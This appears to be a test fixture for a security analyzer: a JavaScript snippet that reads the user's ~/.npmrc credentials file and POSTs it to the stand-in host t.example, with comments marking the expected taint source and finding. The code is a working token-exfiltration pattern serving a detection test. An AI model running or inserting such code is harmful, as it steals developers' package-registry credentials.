const fs = require("fs");
const os = require("os");
const https = require("https");
const rc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); // want: source
const req = https.request({ hostname: "t.example", path: "/c", method: "POST" });
req.write(rc); // want: finding
req.end();
